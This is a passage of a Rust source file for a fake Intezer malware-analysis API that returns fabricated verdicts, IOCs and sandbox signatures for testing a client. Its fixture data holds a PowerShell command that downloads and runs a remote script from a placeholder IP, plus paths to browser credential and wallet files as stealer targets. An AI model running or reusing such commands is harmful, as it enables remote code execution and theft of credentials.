//! The default scenario: a stateful fake Intezer used when no scenario file
//! is given.
//!
//! Verdicts come from the file's SHA-256 (see [`DefaultVerdict`]), so one
//! demo run over a few files shows a mix of known, unknown and trusted files,
//! and the same file always gets the same story. Analysis, sub-analysis and
//! operation ids are UUID-shaped strings hashed from the SHA-256, so they are
//! the same on every run that makes the same calls in the same order.
//!
//! An uploaded file's analysis runs for a set number of status polls rather
//! than for a set time, so tests need no clock.

use std::collections::{HashMap, VecDeque};
use std::fmt;
use std::time::Duration;

use bytes::Bytes;
use serde_json::{json, Map, Value};
use sha2::{Digest, Sha256};

use super::reply::{Reply, ReplyBody};
use super::request::{BodyProblem, Endpoint, IncomingRequest, UploadedFile};

/// Monthly file-scan quota that `GET /current-quota-usage` reports.
const FILE_SCAN_QUOTA: u64 = 1000;

/// Options of the default scenario. `Debug` hides the API key.
#[derive(Clone, PartialEq, Eq)]
pub struct DefaultOptions {
    /// Status polls of a new analysis that get 202 before one gets 200.
    pub polls_before_finished: u32,
    /// Wait added before every response.
    pub latency: Duration,
    /// When set, `POST /get-access-token` returns 401 for any other key, and
    /// every other request except `GET /is-available` needs a token the
    /// simulator issued, or gets 401.
    pub api_key: Option<String>,
    /// When set, requests (access tokens and `is-available` aside) beyond
    /// this many in the last 60 s get HTTP 429 with `Retry-After`, like a
    /// rate-limited Intezer key.
    pub rate_limit_per_minute: Option<u32>,
    /// Every strings operation finishes at once, so no read gets 202; by
    /// default the root of a malicious analysis takes one read more (see
    /// [`strings_reads_in_progress`]). The benchmark's hit runs set it, so
    /// their tasks wait only for the simulated latency.
    pub instant_strings: bool,
}

impl fmt::Debug for DefaultOptions {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("DefaultOptions")
            .field("polls_before_finished", &self.polls_before_finished)
            .field("latency", &self.latency)
            .field("api_key", &self.api_key.as_ref().map(|_| "<redacted>"))
            .field("rate_limit_per_minute", &self.rate_limit_per_minute)
            .field("instant_strings", &self.instant_strings)
            .finish()
    }
}

impl Default for DefaultOptions {
    fn default() -> Self {
        DefaultOptions {
            polls_before_finished: 2,
            latency: Duration::ZERO,
            api_key: None,
            rate_limit_per_minute: None,
            instant_strings: false,
        }
    }
}

/// Case of the default scenario for a file, derived from its SHA-256. The
/// first byte modulo 4 picks the case, and for unknown files the parity of
/// the second byte picks the verdict of their analysis.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DefaultVerdict {
    /// First byte % 4 == 0: the lookup finds a malicious analysis, family
    /// `ExampleRAT`, with network IOCs, dynamic TTPs of every signature
    /// category, malware code reuse, a memory module and a statically
    /// extracted payload that can be downloaded.
    KnownMalicious,
    /// First byte % 4 == 1: the lookup finds a suspicious analysis, family
    /// `ExampleLoader`.
    KnownSuspicious,
    /// First byte % 4 == 2: the lookup finds a trusted analysis
    /// (`known_trusted`) with no dynamic TTPs (404).
    KnownTrusted,
    /// First byte % 4 == 3 and the second byte even: the lookup returns 404
    /// until the file is uploaded and its analysis finishes as malicious.
    UnknownThenMalicious,
    /// First byte % 4 == 3 and the second byte odd: as above, but the
    /// analysis finishes as suspicious.
    UnknownThenSuspicious,
}

impl DefaultVerdict {
    /// Returns the case of a SHA-256 given as 64 hex digits in upper or lower
    /// case, or `None` for anything else.
    pub fn for_sha256(sha256: &str) -> Option<DefaultVerdict> {
        let bytes = parse_sha256(sha256)?;
        let verdict = match bytes[0] % 4 {
            0 => DefaultVerdict::KnownMalicious,
            1 => DefaultVerdict::KnownSuspicious,
            2 => DefaultVerdict::KnownTrusted,
            _ if bytes[1] % 2 == 0 => DefaultVerdict::UnknownThenMalicious,
            _ => DefaultVerdict::UnknownThenSuspicious,
        };
        Some(verdict)
    }

    /// Returns whether the hash lookup finds the file before any upload.
    pub fn is_known(self) -> bool {
        matches!(
            self,
            DefaultVerdict::KnownMalicious
                | DefaultVerdict::KnownSuspicious
                | DefaultVerdict::KnownTrusted
        )
    }

    fn outcome(self) -> Outcome {
        match self {
            DefaultVerdict::KnownMalicious | DefaultVerdict::UnknownThenMalicious => {
                Outcome::Malicious
            }
            DefaultVerdict::KnownSuspicious | DefaultVerdict::UnknownThenSuspicious => {
                Outcome::Suspicious
            }
            DefaultVerdict::KnownTrusted => Outcome::Trusted,
        }
    }
}

/// Verdict of a finished analysis.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Outcome {
    Malicious,
    Suspicious,
    Trusted,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum SubAnalysisKind {
    Root,
    /// A module unpacked in memory during dynamic execution (malicious only).
    MemoryModule,
    /// A packed payload found in the file without running it (malicious
    /// only). Its bytes can be downloaded.
    StaticExtraction,
}

#[derive(Debug, Clone)]
struct SimSubAnalysis {
    id: String,
    kind: SubAnalysisKind,
    sha256: String,
    /// Bytes `GET /files/{sha256}/download` serves once the analysis has
    /// finished; `None` when the file cannot be downloaded.
    file: Option<Bytes>,
}

/// A strings operation and the number of reads that still get 202.
#[derive(Debug, Clone)]
struct StringsOperation {
    analysis_id: String,
    sub_analysis_id: String,
    reads_in_progress: u32,
}

#[derive(Debug, Clone)]
struct SimAnalysis {
    id: String,
    sha256: String,
    outcome: Outcome,
    /// Status polls that got 202 so far.
    in_progress_polls: u32,
    polls_before_finished: u32,
    finished: bool,
    analysis_time: String,
    file_name: Option<String>,
    file_type: &'static str,
    size_in_bytes: Option<usize>,
    sub_analyses: Vec<SimSubAnalysis>,
}

/// State of the default scenario. The caller keeps it behind a mutex, so
/// every method reads and changes it atomically.
pub(crate) struct DefaultIntezer {
    options: DefaultOptions,
    analyses: HashMap<String, SimAnalysis>,
    /// Latest finished analysis per SHA-256, which the hash lookup returns.
    finished_by_sha256: HashMap<String, String>,
    /// Analysis in progress per SHA-256, the reason for a 409 on re-upload.
    running_by_sha256: HashMap<String, String>,
    /// Analyses created so far per SHA-256, which numbers the next id.
    analysis_count_by_sha256: HashMap<String, u32>,
    /// Uploaded files, which `GET /files/{sha256}/download` returns.
    uploads: HashMap<String, UploadedFile>,
    /// Files that finished analyses extracted, by SHA-256, which
    /// `GET /files/{sha256}/download` also returns.
    extracted_files: HashMap<String, Bytes>,
    /// Strings operations by operation id.
    string_operations: HashMap<String, StringsOperation>,
    /// Calls counted against the quota: hash lookups, accepted uploads and
    /// successful downloads, which the Intezer quota documentation lists.
    file_scans_used: u64,
    /// Arrival times of the requests counted by the rate limit, oldest first.
    recent_requests: VecDeque<std::time::Instant>,
}

// === impl DefaultIntezer ===

impl DefaultIntezer {
    pub fn new(options: DefaultOptions) -> DefaultIntezer {
        DefaultIntezer {
            options,
            analyses: HashMap::new(),
            finished_by_sha256: HashMap::new(),
            running_by_sha256: HashMap::new(),
            analysis_count_by_sha256: HashMap::new(),
            uploads: HashMap::new(),
            extracted_files: HashMap::new(),
            string_operations: HashMap::new(),
            file_scans_used: 0,
            recent_requests: VecDeque::new(),
        }
    }

    /// Returns a 429 reply when the request is over the rate limit, and
    /// otherwise counts it.
    fn rate_limited(&mut self, endpoint: &Endpoint) -> Option<Reply> {
        let limit = self.options.rate_limit_per_minute?;
        if matches!(endpoint, Endpoint::GetAccessToken | Endpoint::IsAvailable) {
            return None;
        }
        let now = std::time::Instant::now();
        let window = Duration::from_secs(60);
        while self
            .recent_requests
            .front()
            .is_some_and(|at| now.duration_since(*at) >= window)
        {
            self.recent_requests.pop_front();
        }
        if self.recent_requests.len() < limit as usize {
            self.recent_requests.push_back(now);
            return None;
        }
        let oldest = *self.recent_requests.front()?;
        let retry_after = window.saturating_sub(now.duration_since(oldest)).as_secs() + 1;
        let mut reply = Reply::error(429, "Rate limit exceeded");
        reply
            .headers
            .push(("Retry-After".to_string(), retry_after.to_string()));
        reply
            .headers
            .push(("X-RateLimit-Limit".to_string(), limit.to_string()));
        reply
            .headers
            .push(("X-RateLimit-Remaining".to_string(), "0".to_string()));
        Some(reply)
    }

    pub fn require_authorization(&self) -> bool {
        self.options.api_key.is_some()
    }

    pub fn latency(&self) -> Duration {
        self.options.latency
    }

    /// Builds the response to one request and updates the state.
    pub fn respond(&mut self, request: &IncomingRequest, endpoint: Endpoint) -> Reply {
        if let Some(reply) = self.rate_limited(&endpoint) {
            return reply;
        }
        let reply = match endpoint {
            Endpoint::GetAccessToken => self.get_access_token(request),
            Endpoint::IsAvailable => Reply::json(200, json!({ "is_available": true })),
            Endpoint::CurrentQuotaUsage => self.current_quota_usage(),
            Endpoint::Analyze => self.analyze(request),
            Endpoint::LatestAnalysis { hash } => self.latest_analysis(hash),
            Endpoint::Download { hash } => self.download(hash),
            Endpoint::AnalysisStatus { analysis_id } => self.analysis_status(analysis_id),
            Endpoint::Iocs { analysis_id } => self
                .finished_analysis(analysis_id)
                .map_or_else(Unavailable::reply, iocs),
            Endpoint::DynamicTtps { analysis_id } => self
                .finished_analysis(analysis_id)
                .map_or_else(Unavailable::reply, dynamic_ttps),
            Endpoint::SubAnalyses { analysis_id } => self
                .finished_analysis(analysis_id)
                .map_or_else(Unavailable::reply, sub_analyses),
            Endpoint::CodeReuse {
                analysis_id,
                sub_analysis_id,
            } => self
                .sub_analysis(analysis_id, sub_analysis_id)
                .map_or_else(Unavailable::reply, |(analysis, sub)| {
                    code_reuse(analysis, sub)
                }),
            Endpoint::Metadata {
                analysis_id,
                sub_analysis_id,
            } => self
                .sub_analysis(analysis_id, sub_analysis_id)
                .map_or_else(Unavailable::reply, |(analysis, sub)| {
                    metadata(analysis, sub)
                }),
            Endpoint::StringsRequest {
                analysis_id,
                sub_analysis_id,
            } => self.request_strings(analysis_id, sub_analysis_id),
            Endpoint::StringsResult {
                analysis_id,
                sub_analysis_id,
                operation_id,
            } => self.strings_result(analysis_id, sub_analysis_id, operation_id),
            Endpoint::Unknown => Reply::error(404, "endpoint not found"),
        };
        match endpoint.route_template() {
            Some(template) => reply.with_route(template),
            None => reply,
        }
    }

    fn get_access_token(&self, request: &IncomingRequest) -> Reply {
        if let Some(expected) = &self.options.api_key {
            let given = request
                .body_json
                .as_ref()
                .and_then(|body| body.get("api_key"))
                .and_then(Value::as_str);
            if given != Some(expected.as_str()) {
                return Reply::error(401, "Invalid api key");
            }
        }
        Reply::new_access_token()
    }

    fn current_quota_usage(&self) -> Reply {
        Reply::json(
            200,
            json!({
                "result": {
                    "file_scans": { "quota": FILE_SCAN_QUOTA, "usage": self.file_scans_used, "type": "monthly" },
                    "endpoint_scans": { "quota": 100, "usage": 0, "type": "monthly" }
                }
            }),
        )
    }

    fn latest_analysis(&mut self, hash: &str) -> Reply {
        self.file_scans_used += 1;
        let Some(verdict) = DefaultVerdict::for_sha256(hash) else {
            return analysis_not_found();
        };
        let sha256 = hash.to_ascii_lowercase();

        let analysis_id = match self.finished_by_sha256.get(&sha256) {
            Some(analysis_id) => analysis_id.clone(),
            None if verdict.is_known() => self.create_known_analysis(&sha256, verdict),
            None => return analysis_not_found(),
        };
        let analysis = &self.analyses[&analysis_id];
        Reply::json(
            200,
            json!({ "result": analysis_result(analysis), "status": "succeeded" }),
        )
    }

    /// Creates the analysis Intezer already has of a known file, on the
    /// first lookup and finished from the start.
    fn create_known_analysis(&mut self, sha256: &str, verdict: DefaultVerdict) -> String {
        let analysis = self.new_analysis(sha256, verdict.outcome(), None);
        let analysis_id = analysis.id.clone();
        self.analyses.insert(analysis_id.clone(), analysis);
        self.finish(&analysis_id);
        analysis_id
    }

    /// Marks an analysis finished: the hash lookup returns it from now on,
    /// a new upload of its file is accepted, and its extracted files can be
    /// downloaded.
    fn finish(&mut self, analysis_id: &str) {
        let Some(analysis) = self.analyses.get_mut(analysis_id) else {
            return;
        };
        analysis.finished = true;
        self.running_by_sha256.remove(&analysis.sha256);
        self.finished_by_sha256
            .insert(analysis.sha256.clone(), analysis.id.clone());
        for sub in &analysis.sub_analyses {
            if let Some(bytes) = &sub.file {
                self.extracted_files
                    .insert(sub.sha256.clone(), bytes.clone());
            }
        }
    }

    fn new_analysis(
        &mut self,
        sha256: &str,
        outcome: Outcome,
        upload: Option<&UploadedFile>,
    ) -> SimAnalysis {
        let count = self
            .analysis_count_by_sha256
            .entry(sha256.to_string())
            .or_insert(0);
        let id = uuid_like(&format!("analysis:{sha256}:{count}"));
        *count += 1;

        let mut sub_analyses = vec![SimSubAnalysis {
            id: uuid_like(&format!("sub-analysis:{id}:root")),
            kind: SubAnalysisKind::Root,
            sha256: sha256.to_string(),
            file: None,
        }];
        if outcome == Outcome::Malicious {
            sub_analyses.push(SimSubAnalysis {
                id: uuid_like(&format!("sub-analysis:{id}:memory-module")),
                kind: SubAnalysisKind::MemoryModule,
                sha256: hex::encode(Sha256::digest(format!("memory-module:{sha256}"))),
                file: None,
            });
            let payload = extracted_payload(sha256);
            sub_analyses.push(SimSubAnalysis {
                id: uuid_like(&format!("sub-analysis:{id}:static-extraction")),
                kind: SubAnalysisKind::StaticExtraction,
                sha256: hex::encode(Sha256::digest(&payload)),
                file: Some(payload),
            });
        }

        SimAnalysis {
            id,
            sha256: sha256.to_string(),
            outcome,
            in_progress_polls: 0,
            polls_before_finished: self.options.polls_before_finished,
            finished: false,
            analysis_time: chrono::Utc::now()
                .format("%a, %d %b %Y %H:%M:%S GMT")
                .to_string(),
            file_name: upload.map(|upload| upload.file_name.clone()),
            file_type: upload.map_or("pe", |upload| sniff_file_type(&upload.bytes)),
            size_in_bytes: upload.map(|upload| upload.bytes.len()),
            sub_analyses,
        }
    }

    fn analyze(&mut self, request: &IncomingRequest) -> Reply {
        match &request.body_problem {
            Some(BodyProblem::TooLarge) => return Reply::error(413, "File is too large"),
            Some(BodyProblem::Invalid(problem)) => {
                return Reply::json(
                    400,
                    json!({ "error": "The request is not valid", "details": problem }),
                )
            }
            None => {}
        }
        let Some(upload) = &request.upload else {
            return Reply::json(
                400,
                json!({
                    "error": "The request is not valid",
                    "details": { "file": ["Missing data for required field."] }
                }),
            );
        };

        if let Some(running_id) = self.running_by_sha256.get(&upload.sha256) {
            return Reply::json(
                409,
                json!({
                    "error": "Analysis already running",
                    "result": { "analysis_id": running_id, "is_skipped_by_rule": false }
                }),
            );
        }

        let outcome = DefaultVerdict::for_sha256(&upload.sha256)
            .expect("a hex-encoded SHA-256 has 64 hex digits, so it always has a verdict")
            .outcome();
        let analysis = self.new_analysis(&upload.sha256, outcome, Some(upload));
        let analysis_id = analysis.id.clone();
        self.running_by_sha256
            .insert(upload.sha256.clone(), analysis_id.clone());
        self.analyses.insert(analysis_id.clone(), analysis);
        self.uploads.insert(upload.sha256.clone(), upload.clone());
        self.file_scans_used += 1;

        Reply::json(
            201,
            json!({ "result_url": format!("/analyses/{analysis_id}"), "status": "created" }),
        )
    }

    fn analysis_status(&mut self, analysis_id: &str) -> Reply {
        let Some(analysis) = self.analyses.get_mut(analysis_id) else {
            return analysis_not_found();
        };
        if !analysis.finished {
            if analysis.in_progress_polls < analysis.polls_before_finished {
                analysis.in_progress_polls += 1;
                return Reply::json(202, json!({ "status": "in_progress" }));
            }
            self.finish(analysis_id);
        }
        Reply::json(
            200,
            json!({ "status": "succeeded", "result": analysis_result(&self.analyses[analysis_id]) }),
        )
    }

    /// Serves an uploaded file or a file a finished analysis extracted.
    fn download(&mut self, hash: &str) -> Reply {
        let sha256 = hash.to_ascii_lowercase();
        let bytes = match self.uploads.get(&sha256) {
            Some(upload) => upload.bytes.clone(),
            None => match self.extracted_files.get(&sha256) {
                Some(bytes) => bytes.clone(),
                None => return Reply::error(404, "File not found"),
            },
        };
        self.file_scans_used += 1;
        Reply {
            status: 200,
            body: ReplyBody::Bytes(bytes),
            headers: vec![(
                "Content-Disposition".to_string(),
                format!("attachment; filename={sha256}.sample"),
            )],
            delay: Duration::ZERO,
            route: None,
            fault: None,
        }
    }

    /// Returns the analysis if it exists and has finished.
    fn finished_analysis(&self, analysis_id: &str) -> Result<&SimAnalysis, Unavailable> {
        match self.analyses.get(analysis_id) {
            None => Err(Unavailable::AnalysisNotFound),
            Some(analysis) if !analysis.finished => Err(Unavailable::StillRunning),
            Some(analysis) => Ok(analysis),
        }
    }

    fn sub_analysis(
        &self,
        analysis_id: &str,
        sub_analysis_id: &str,
    ) -> Result<(&SimAnalysis, &SimSubAnalysis), Unavailable> {
        let analysis = self.finished_analysis(analysis_id)?;
        match analysis
            .sub_analyses
            .iter()
            .find(|sub| sub.id == sub_analysis_id)
        {
            Some(sub) => Ok((analysis, sub)),
            None => Err(Unavailable::SubAnalysisNotFound),
        }
    }

    fn request_strings(&mut self, analysis_id: &str, sub_analysis_id: &str) -> Reply {
        let reads_in_progress = match self.sub_analysis(analysis_id, sub_analysis_id) {
            Ok(_) if self.options.instant_strings => 0,
            Ok((analysis, sub)) => strings_reads_in_progress(analysis, sub),
            Err(unavailable) => return unavailable.reply(),
        };
        let sequence = self.string_operations.len();
        let operation_id = uuid_like(&format!(
            "strings:{analysis_id}:{sub_analysis_id}:{sequence}"
        ));
        self.string_operations.insert(
            operation_id.clone(),
            StringsOperation {
                analysis_id: analysis_id.to_string(),
                sub_analysis_id: sub_analysis_id.to_string(),
                reads_in_progress,
            },
        );
        Reply::json(
            201,
            json!({
                "result_url": format!("/analyses/{analysis_id}/sub-analyses/{sub_analysis_id}/strings/{operation_id}"),
                "status": "created"
            }),
        )
    }

    /// Returns 202 while the operation still runs, then its strings. See
    /// [`strings_reads_in_progress`] for how many reads get 202.
    fn strings_result(
        &mut self,
        analysis_id: &str,
        sub_analysis_id: &str,
        operation_id: &str,
    ) -> Reply {
        let Some(operation) = self.string_operations.get_mut(operation_id) else {
            return Reply::error(404, "Operation was not found");
        };
        if operation.analysis_id != analysis_id || operation.sub_analysis_id != sub_analysis_id {
            return Reply::error(404, "Operation was not found");
        }
        if operation.reads_in_progress > 0 {
            operation.reads_in_progress -= 1;
            return Reply::json(202, json!({ "status": "in_progress" }));
        }
        match self.sub_analysis(analysis_id, sub_analysis_id) {
            Ok((analysis, sub)) => strings(analysis, sub),
            Err(unavailable) => unavailable.reply(),
        }
    }
}

/// Reason an analysis or sub-analysis cannot be read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Unavailable {
    AnalysisNotFound,
    /// The analysis exists but its status has not been polled to the end.
    StillRunning,
    SubAnalysisNotFound,
}

impl Unavailable {
    fn reply(self) -> Reply {
        match self {
            Unavailable::AnalysisNotFound => analysis_not_found(),
            Unavailable::StillRunning => Reply::error(409, "Analysis is still running"),
            Unavailable::SubAnalysisNotFound => Reply::error(404, "Sub analysis was not found"),
        }
    }
}

// === response bodies ===

fn analysis_not_found() -> Reply {
    Reply::error(404, "Analysis was not found")
}

/// Name of the main family an outcome reports.
fn main_family(outcome: Outcome) -> Option<&'static str> {
    match outcome {
        Outcome::Malicious => Some("ExampleRAT"),
        Outcome::Suspicious => Some("ExampleLoader"),
        Outcome::Trusted => None,
    }
}

fn family_id(name: &str) -> String {
    uuid_like(&format!("family:{name}"))
}

fn family_reference(name: &str) -> Value {
    json!({ "family_id": family_id(name), "family_name": name })
}

fn analysis_result(analysis: &SimAnalysis) -> Value {
    let (verdict, sub_verdict) = match analysis.outcome {
        Outcome::Malicious => ("malicious", "malicious"),
        Outcome::Suspicious => ("suspicious", "suspicious"),
        Outcome::Trusted => ("trusted", "known_trusted"),
    };
    let mut result = Map::new();
    result.insert("analysis_id".into(), json!(analysis.id));
    result.insert("analysis_time".into(), json!(analysis.analysis_time));
    result.insert(
        "analysis_url".into(),
        json!(format!(
            "https://analyze.example.com/analyses/{}",
            analysis.id
        )),
    );
    result.insert("is_private".into(), json!(true));
    result.insert("sha256".into(), json!(analysis.sha256));
    result.insert("verdict".into(), json!(verdict));
    result.insert("sub_verdict".into(), json!(sub_verdict));
    if let Some(family) = main_family(analysis.outcome) {
        result.insert("family_name".into(), json!(family));
        result.insert("family_id".into(), json!(family_id(family)));
    }
    if let Some(file_name) = &analysis.file_name {
        result.insert("file_name".into(), json!(file_name));
    }
    Value::Object(result)
}

/// Address in the documentation range 192.0.2.0/24 (RFC 5737), picked by
/// the third byte of the SHA-256.
fn c2_ip(sha256: &str) -> String {
    let third_byte = parse_sha256(sha256).map_or(0, |bytes| bytes[2]);
    format!("192.0.2.{}", third_byte % 254 + 1)
}

fn c2_domain(sha256: &str) -> String {
    format!("c2-{}.example.net", &sha256[8..16])
}

fn iocs(analysis: &SimAnalysis) -> Reply {
    let (verdict, network) = match analysis.outcome {
        Outcome::Malicious => (
            "malicious",
            json!([
                { "ioc": c2_ip(&analysis.sha256), "type": "ip", "source": ["Network communication"] },
                { "ioc": c2_domain(&analysis.sha256), "type": "domain", "source": ["Network communication"] }
            ]),
        ),
        Outcome::Suspicious => (
            "suspicious",
            json!([
                {
                    "ioc": format!("cdn-{}.example.org", &analysis.sha256[8..16]),
                    "type": "domain",
                    "source": ["Network communication"]
                }
            ]),
        ),
        Outcome::Trusted => ("trusted", json!([])),
    };

    let mut main_file = Map::new();
    main_file.insert(
        "path".into(),
        json!(analysis
            .file_name
            .clone()
            .unwrap_or_else(|| format!("{}.sample", analysis.sha256))),
    );
    main_file.insert("sha256".into(), json!(analysis.sha256));
    main_file.insert("type".into(), json!("main_file"));
    main_file.insert("verdict".into(), json!(verdict));
    if let Some(family) = main_family(analysis.outcome) {
        main_file.insert("family".into(), json!(family));
    }

    Reply::json(
        200,
        json!({ "result": { "files": [main_file], "network": network }, "status": "succeeded" }),
    )
}

/// Signatures from dynamic execution. Trusted files were not executed, so
/// they get 404, which the API uses for "no dynamic TTPs".
///
/// The malicious set covers every signature category the service maps,
/// one signature it does not map, one silent signature, and every kind of
/// mark: `IP` (bare and with a port), `command`, `cmdline`, `file`,
/// `regkey`, `url`, `domain`, a key the service does not tag, and a value
/// that is a number.
fn dynamic_ttps(analysis: &SimAnalysis) -> Reply {
    let signatures = match analysis.outcome {
        Outcome::Malicious => malicious_ttps(&analysis.sha256),
        Outcome::Suspicious => json!([
            {
                "name": "recon_fingerprint",
                "description": "Collects information to fingerprint the system",
                "severity": 1,
                "data": []
            }
        ]),
        Outcome::Trusted => return Reply::error(404, "No dynamic TTPs for this analysis"),
    };
    Reply::json(200, json!({ "result": signatures, "status": "succeeded" }))
}

fn malicious_ttps(sha256: &str) -> Value {
    let c2_ip = c2_ip(sha256);
    let c2_domain = c2_domain(sha256);
    let install_dir = "C:\\Users\\user\\AppData\\Roaming\\ExampleRAT";
    json!([
        {
            "name": "InjectionInterProcess",
            "description": "Injects code into another process",
            "severity": 3,
            "data": [
                { "command": "C:\\Windows\\System32\\svchost.exe -k netsvcs" },
                { "process_id": 1312 }
            ]
        },
        {
            "name": "network_cnc_https_generic",
            "description": "Connects to a command-and-control server over HTTPS",
            "severity": 2,
            "data": [
                { "IP": c2_ip },
                { "IP": format!("{c2_ip}:443") },
                { "domain": c2_domain },
                { "url": format!("https://{c2_domain}/api/v1/beacon?id={}", &sha256[..8]) }
            ]
        },
        {
            "name": "persistence_autorun",
            "description": "Installs itself to run at Windows start-up",
            "severity": 2,
            "data": [
                { "regkey": "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\ExampleRAT" },
                { "file": format!("{install_dir}\\update.exe") }
            ]
        },
        {
            "name": "powershell_command_suspicious",
            "description": "Runs a PowerShell command that downloads and runs code",
            "severity": 3,
            "data": [
                {
                    "cmdline": format!(
                        "powershell.exe -NoProfile -WindowStyle Hidden -Command \"IEX (New-Object Net.WebClient).DownloadString('http://{c2_ip}/stage2.ps1')\""
                    )
                }
            ]
        },
        {
            "name": "infostealer_browser",
            "description": "Reads the credential store of a web browser",
            "severity": 2,
            "data": [
                { "file": "C:\\Users\\user\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data" }
            ]
        },
        {
            "name": "infostealer_bitcoin",
            "description": "Collects cryptocurrency wallet files",
            "severity": 1,
            "data": [
                { "file": "C:\\Users\\user\\AppData\\Roaming\\Bitcoin\\wallet.dat" }
            ]
        },
        {
            "name": "enumerates_running_processes",
            "description": "Enumerates the running processes",
            "severity": 1,
            "data": [
                { "process": "explorer.exe" },
                { "process": "MsMpEng.exe" }
            ]
        },
        {
            "name": "checks_debugger",
            "description": "Checks whether a debugger is attached",
            "severity": 1,
            "data": [
                { "api": "IsDebuggerPresent" }
            ]
        }
    ])
}

fn sub_analyses(analysis: &SimAnalysis) -> Reply {
    let entries: Vec<Value> = analysis
        .sub_analyses
        .iter()
        .map(|sub| match sub.kind {
            SubAnalysisKind::Root => json!({
                "sub_analysis_id": sub.id,
                "source": "root",
                "sha256": sub.sha256,
                "file_type": analysis.file_type
            }),
            SubAnalysisKind::MemoryModule => json!({
                "sub_analysis_id": sub.id,
                "source": "dynamic_unpacking",
                "sha256": sub.sha256,
                "file_type": "pe",
                "extraction_info": { "processes": memory_module_processes(analysis, sub) }
            }),
            SubAnalysisKind::StaticExtraction => json!({
                "sub_analysis_id": sub.id,
                "source": "static_extraction",
                "sha256": sub.sha256,
                "file_type": "pe"
            }),
        })
        .collect();
    Reply::json(200, json!({ "sub_analyses": entries }))
}

/// Builds the process tree in which the memory module was found. The
/// sample (pid 1204) started PowerShell (1460) and injected the module into
/// svchost (1312), so only that process has a module path of its own.
fn memory_module_processes(analysis: &SimAnalysis, sub: &SimSubAnalysis) -> Value {
    let sample_path = format!(
        "C:\\Users\\user\\AppData\\Local\\Temp\\{}.exe",
        &analysis.sha256[..8]
    );
    let powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    json!([
        {
            "process_id": 1204,
            "parent_process_id": 880,
            "process_path": sample_path,
            "module_path": sample_path
        },
        {
            "process_id": 1312,
            "parent_process_id": 1204,
            "process_path": "C:\\Windows\\System32\\svchost.exe",
            "module_path": format!("C:\\Users\\user\\AppData\\Local\\Temp\\{}.dll", &sub.sha256[..8])
        },
        {
            "process_id": 1460,
            "parent_process_id": 1204,
            "process_path": powershell,
            "module_path": powershell
        }
    ])
}

fn code_reuse(analysis: &SimAnalysis, sub: &SimSubAnalysis) -> Reply {
    let gene_type = if analysis.file_type == "elf" && sub.kind == SubAnalysisKind::Root {
        "native_linux"
    } else {
        "native_windows"
    };
    let (families, gene_count, unique_gene_count) = match (analysis.outcome, sub.kind) {
        (Outcome::Malicious, SubAnalysisKind::Root) => (
            vec![
                ("ExampleRAT", "malware", 12),
                ("Microsoft Visual C++ Runtime", "library", 30),
            ],
            140,
            25,
        ),
        (_, SubAnalysisKind::MemoryModule) => (vec![("ExampleRAT", "malware", 7)], 45, 30),
        (_, SubAnalysisKind::StaticExtraction) => (vec![("ExamplePacker", "packer", 38)], 60, 4),
        (Outcome::Suspicious, SubAnalysisKind::Root) => (
            vec![("ExampleLoader", "malware", 3), ("UPX", "packer", 6)],
            60,
            20,
        ),
        (Outcome::Trusted, SubAnalysisKind::Root) => {
            (vec![("ExampleVendor Suite", "application", 80)], 100, 0)
        }
    };
    let families: Vec<Value> = families
        .into_iter()
        .map(|(name, family_type, reused_gene_count)| {
            json!({
                "family_id": family_id(name),
                "family_name": name,
                "family_type": family_type,
                "reused_gene_count": reused_gene_count
            })
        })
        .collect();
    Reply::json(
        200,
        json!({
            "families": families,
            "gene_count": gene_count,
            "gene_type": gene_type,
            "unique_gene_count": unique_gene_count
        }),
    )
}

fn metadata(analysis: &SimAnalysis, sub: &SimSubAnalysis) -> Reply {
    let mut body = Map::new();
    body.insert("sha256".into(), json!(sub.sha256));
    let file_type = match sub.kind {
        SubAnalysisKind::Root => analysis.file_type,
        SubAnalysisKind::MemoryModule | SubAnalysisKind::StaticExtraction => "pe",
    };
    body.insert("file_type".into(), json!(file_type));
    match file_type {
        "pe" => {
            body.insert("architecture".into(), json!("i386"));
        }
        "elf" => {
            body.insert("architecture".into(), json!("amd64"));
        }
        _ => {}
    }
    match sub.kind {
        SubAnalysisKind::Root => {
            if let Some(size) = analysis.size_in_bytes {
                body.insert("size_in_bytes".into(), json!(size));
            }
            if let Some(file_name) = &analysis.file_name {
                body.insert("original_filename".into(), json!(file_name));
            }
            if analysis.outcome == Outcome::Malicious {
                body.insert("product_name".into(), json!("Example Updater"));
                body.insert(
                    "indicators".into(),
                    json!([
                        { "name": "network_communication", "classification": "suspicious" },
                        { "name": "high_entropy_section", "classification": "suspicious" },
                        { "name": "unsigned_file", "classification": "neutral" }
                    ]),
                );
            }
        }
        SubAnalysisKind::MemoryModule => {
            body.insert("size_in_bytes".into(), json!(20480));
        }
        SubAnalysisKind::StaticExtraction => {
            let size = sub.file.as_ref().map_or(0, Bytes::len);
            body.insert("size_in_bytes".into(), json!(size));
            body.insert(
                "indicators".into(),
                json!([{ "name": "packed_file", "classification": "suspicious" }]),
            );
        }
    }
    Reply::json(200, Value::Object(body))
}

/// Reads of a new strings operation that get 202 before the strings. The
/// root of a malicious analysis takes one, so a demo runs the client's
/// polling; every other operation finishes at once.
fn strings_reads_in_progress(analysis: &SimAnalysis, sub: &SimSubAnalysis) -> u32 {
    match (analysis.outcome, sub.kind) {
        (Outcome::Malicious, SubAnalysisKind::Root) => 1,
        _ => 0,
    }
}

fn strings(analysis: &SimAnalysis, sub: &SimSubAnalysis) -> Reply {
    let common = json!({ "string_value": "GetProcAddress", "software_type": "common", "tags": [] });
    let mutex = json!({
        "string_value": format!("ExampleRAT_mutex_{}", &sub.sha256[..4]),
        "software_type": "malware",
        "tags": ["mutex"],
        "families": [family_reference("ExampleRAT")]
    });
    let c2_domain = json!({
        "string_value": c2_domain(&analysis.sha256),
        "software_type": "malware",
        "tags": ["network"],
        "families": [family_reference("ExampleRAT")]
    });
    let entries = match (analysis.outcome, sub.kind) {
        (Outcome::Malicious, SubAnalysisKind::Root) => json!([
            c2_domain,
            mutex,
            {
                "string_value": "Software\\Microsoft\\Windows\\CurrentVersion\\Run",
